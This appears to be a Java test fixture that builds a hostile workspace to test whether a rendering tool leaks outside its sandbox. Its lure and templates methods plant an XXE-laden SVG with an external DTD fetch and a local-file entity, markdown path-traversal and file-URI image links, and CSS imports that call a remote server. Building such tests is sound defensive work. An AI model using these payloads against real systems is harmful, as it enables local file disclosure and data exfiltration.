package org.youbei.test.fence;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import org.youbei.test.Repository;

/** A small workspace that would lure the tool out of it: to a server, and to a file beside the workspace. */
record Hostile(Path root, Path outside, String server) {
    /** What stands in the file outside, and must stand nowhere else. */
    static final String CANARY = "canary-7f3a91c2";

    static final String PRINTS_CANARY = "p::before { content: \"" + CANARY + "\" }\n";

    static final String PLAN = "plans/special/ex-typhoon.md";

    /** Writes the workspace of the corpus, and the file beside it. */
    static Hostile in(Path folder, String server) throws IOException {
        Path root = folder.resolve("workspace");
        copyAll(Repository.root().resolve("test/errors/base"), root);
        Path outside = Files.writeString(folder.resolve("outside.txt"), CANARY);
        return new Hostile(root, outside, server);
    }

    private static void copyAll(Path from, Path to) throws IOException {
        try (var files = Files.walk(from)) {
            files.filter(Files::isRegularFile)
                    .forEach(file -> copy(file, to.resolve(from.relativize(file).toString())));
        }
    }

    private static void copy(Path from, Path to) {
        try {
            Files.createDirectories(to.getParent());
            Files.copy(from, to, StandardCopyOption.REPLACE_EXISTING);
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
    }

    Path write(String path, String text) throws IOException {
        Path file = root.resolve(path);
        Files.createDirectories(file.getParent());
        return Files.writeString(file, text);
    }

    void append(String text) throws IOException {
        Path plan = root.resolve(PLAN);
        Files.writeString(plan, Files.readString(plan) + "\n" + text + "\n");
    }

    /** Content that {@code check} admits: addresses behind references, a picture that names others. */
    void lure() throws IOException {
        String entity = "<!DOCTYPE svg [<!ENTITY x SYSTEM \"" + outside.toUri() + "\"><!ENTITY % y SYSTEM \"" + server
                + "/y.dtd\"> %y;]>";
        write(
                "plans/special/attachments/route.svg",
                "<?xml version=\"1.0\"?>\n" + entity
                        + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text>&x;</text><image xlink:href=\""
                        + server + "/a.png\"/></svg>");
        append("![路线图](attachments/route.svg)");
        append("![远处][far] ![外面][out] ![盘上][disk]\n\n[far]: " + server
                + "/far.png\n[out]: ../../../outside.txt\n[disk]: " + outside.toUri());
    }

    /** A style sheet of its own for cards, which names addresses, and a style sheet outside that would print the canary. */
    void templates() throws IOException {
        Path style = Files.writeString(root.resolveSibling("outside.css"), PRINTS_CANARY);
        cardStyle("@import url(" + server + "/c.css);\n@import url(" + style.toUri()
                + ");\n@font-face { font-family: Far; src: url(" + server + "/d.ttf); }\nbody { background: url("
                + server + "/e.png); font-family: Far; }\n");
    }

    /** Puts lines before the style sheet of cards. */
    void cardStyle(String lines) throws IOException {
        Path built = Repository.root().resolve("templates/cards");
        write("templates/cards/cards.css", lines + Files.readString(built.resolve("cards.css")));
    }

    /** Makes the plan one of which cards are printed. */
    void printable() throws IOException {
        Path plan = root.resolve(PLAN);
        Files.writeString(plan, Files.readString(plan).replace("status: drafting\n", """
                        status: in-force
                        dates: {issued: 2025-05-01, effective: 2025-05-01}
                        responses:
                          - level: 1
                            triggers: [{when: 堤防决口}]
                            decidedBy: ex-flood
                            actions: [{id: a1, do: 组织转移, by: ex-flood, within: 30min}]
                        """));
    }
}
